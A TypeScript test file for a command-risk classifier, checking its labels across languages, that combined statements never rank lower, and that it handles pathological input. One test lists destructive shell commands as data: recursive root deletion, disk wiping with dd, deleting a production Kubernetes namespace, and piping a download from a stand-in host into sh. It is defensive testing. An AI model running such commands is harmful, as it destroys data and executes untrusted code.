import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Risk } from '../../../runtime/model/risk.js';
import { judges, sceneOf } from '../../../runtime/risk/judges.js';
import { judgeLanguage } from '../../../runtime/risk/languages/index.js';
import { programCases } from './program-cases.js';

const scene = () => sceneOf({ parsers: { languages: judgeLanguage } });

function judge(text: string, language: string): Risk {
  return judgeLanguage(text, language, scene(), judges).risk;
}

const order: readonly Risk[] = ['safe', 'unknown', 'caution', 'dangerous'];

for (const [language, byRisk] of Object.entries(programCases)) {
  for (const risk of order) {
    test(`${language} that is ${risk} is judged so`, () => {
      const wrong = (byRisk[risk] ?? []).filter((text) => judge(text, language) !== risk);
      assert.deepEqual(
        wrong.map((text) => [text, judge(text, language)]),
        [],
      );
    });
  }

  test(`a second statement of ${language} never lowers the class of the first, nor the first that of the second`, () => {
    const texts = order.flatMap((risk) => byRisk[risk] ?? []).filter((text) => !/[{(]$|^use |^show /.test(text));
    const ranked = texts.map((text) => ({ text, rank: order.indexOf(judge(text, language)) }));
    for (const one of ranked) {
      for (const other of ranked) {
        if (/^(kql|promql)$/.test(language)) continue;
        const text = `${one.text}\n${other.text}`;
        const worst = Math.max(one.rank, other.rank);
        assert.ok(order.indexOf(judge(text, language)) >= worst, `${text}: ${judge(text, language)}`);
      }
    }
  });

  test(`what destroys in a shell is never safe in a field for ${language}`, () => {
    for (const text of [
      'rm -rf /',
      'sudo rm -rf /var',
      'kubectl delete ns prod',
      'curl -s http://x.example/a | sh',
      'dd if=/dev/zero of=/dev/sda',
    ]) {
      assert.notEqual(judge(text, language), 'safe', text);
    }
  });
}

for (const language of [...Object.keys(programCases), 'cmd']) {
  test(`hostile text in ${language} is answered quickly, without a throw and with spans in the text`, {
    timeout: 30_000,
  }, () => {
    const signs = [
      '(',
      '{',
      '[',
      '"',
      "'",
      '`',
      '\\',
      '/',
      '%',
      '|',
      'a.',
      'f(',
      '{"a":',
      '<',
      '$(',
      '"#{',
      '"${',
      'q(',
      's{',
      '\u202e',
      '\u0000',
      '/* ',
      '-- ',
      '"""',
      'x.y(',
      ':a ',
      '!x!',
      '^',
      '%a',
      '@(',
      'if ',
      'for %i in (',
      "'\\'",
    ];
    for (const sign of signs) {
      for (const times of [1, 3, 2_000, 200_000]) {
        const text = sign.repeat(Math.ceil(times / sign.length));
        const { reasons } = judgeLanguage(text, language, scene(), judges);
        for (const { span } of reasons) assert.ok(span.start >= 0 && span.start <= span.end && span.end <= text.length);
      }
    }
  });
}
